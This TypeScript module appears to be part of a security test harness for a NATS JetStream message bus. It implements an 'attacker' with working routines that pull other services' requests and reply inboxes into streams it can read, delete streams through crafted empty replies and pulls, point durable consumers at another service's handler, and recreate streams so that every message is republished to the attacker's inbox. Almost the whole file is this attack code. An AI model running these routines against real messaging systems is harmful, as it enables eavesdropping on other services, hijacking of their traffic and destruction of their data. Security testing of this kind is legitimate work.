import { setTimeout } from 'node:timers/promises';
import { type Attacker, apiPrefixes } from './attacker';
import { requestsTo } from './stand-in';
import { targetsOf } from './targets';

/** Adds the requests and inboxes of others to streams from which the attacker may read. */
export function captureRequests(attacker: Attacker): void {
  const { streams, requests, inboxes } = targetsOf(attacker);
  const services = new Set(requests.map((subject) => `${subject.split('.')[0]}.>`));
  const replies = inboxes.map((inbox) => inbox.replace(/\.\w+$/, '.>'));
  // Only one stream can take a subject: first those from which the attacker can read.
  for (const { name, subjects } of streams.toSorted((a, b) => own(attacker, b.name) - own(attacker, a.name))) {
    const config = { name, subjects: [...subjects, ...services, ...replies], no_ack: true };
    attacker.call(`STREAM.UPDATE.${name}`, config);
  }
}

/** Pulls from its own empty consumers: the empty reply deletes each stream. */
export function deleteByPull(attacker: Attacker): void {
  const pull = JSON.stringify({ batch: 1, no_wait: true });
  for (const consumer of attacker.rights.advances) {
    for (const subject of deletions(attacker)) {
      attacker.publish(`${attacker.apiPrefix}.CONSUMER.MSG.NEXT.${consumer}`, pull, subject);
    }
  }
}

/** Sends requests that are answered by an empty reply, which deletes each stream. */
export function deleteByEmptyReply(attacker: Attacker): void {
  const { bus, rights } = attacker;
  for (const service of bus.standIns.keys()) {
    const [request] = requestsTo(service).filter((subject) => rights.sends.includes(subject));
    if (request === undefined) continue;
    for (const subject of deletions(attacker)) attacker.publish(request, '', subject);
  }
}

/** Creates its own consumer anew, so that JetStream sends events to a handler of another service as requests. */
export async function deliverToHandler(attacker: Attacker): Promise<void> {
  deleteByPull(attacker);
  // nats-server deletes in the background: a stream that is created too early is deleted again.
  for (let attempt = 1; attempt <= 5; attempt += 1) {
    await setTimeout(20);
    createPushConsumers(attacker);
    await attacker.flush();
  }
}

function createPushConsumers(attacker: Attacker): void {
  const { streams, requests } = targetsOf(attacker);
  const [handler] = requests;
  for (const { name, subjects } of streams) attacker.call(`STREAM.CREATE.${name}`, { name, subjects });
  for (const consumer of attacker.rights.advances) {
    const [stream, durable] = consumer.split('.');
    const delivery = { deliver_subject: handler, deliver_group: handler?.split('.')[0] };
    const config = { durable_name: durable, ack_policy: 'none', ...delivery };
    for (const create of ['CREATE', 'DURABLE.CREATE']) {
      attacker.call(`CONSUMER.${create}.${consumer}`, { stream_name: stream, config });
    }
  }
}

/** Subjects that delete each stream. The attacker's own come last, because its pulls end with them. */
function deletions(attacker: Attacker): string[] {
  const names = [...new Set(attacker.bus.consumes().map(([, { stream }]) => stream.name))];
  const ordered = names.toSorted((a, b) => own(attacker, a) - own(attacker, b));
  return ordered.flatMap((name) => apiPrefixes.map((prefix) => `${prefix}.STREAM.DELETE.${name}`));
}

/** 1 for a stream from which the attacker's service pulls, otherwise 0. */
function own({ rights }: Attacker, stream: string): number {
  return Number(rights.advances.some((consumer) => consumer.startsWith(`${stream}.`)));
}

/** Creates every stream anew, after it was lost, so that it takes all subjects and sends copies to the attacker. */
export async function takeOverStreams(attacker: Attacker): Promise<void> {
  const { bus, inbox } = attacker;
  const { streams, requests, inboxes } = targetsOf(attacker);
  const foreign = new Set([...requests, ...inboxes].map((subject) => `${subject.split('.').slice(0, 2).join('.')}.>`));
  for (const { name, subjects } of streams) {
    await bus.streams.streams.delete(name);
    const config = {
      name,
      subjects: [...subjects, ...foreign],
      no_ack: true,
      republish: { src: '>', dest: `${inbox}.copy.>` },
    };
    attacker.call(`STREAM.CREATE.${name}`, config);
    // The second stream cannot have the subjects that the first one has.
    attacker.call(`STREAM.CREATE.${name}`, { ...config, subjects });
  }
  await attacker.flush();
}
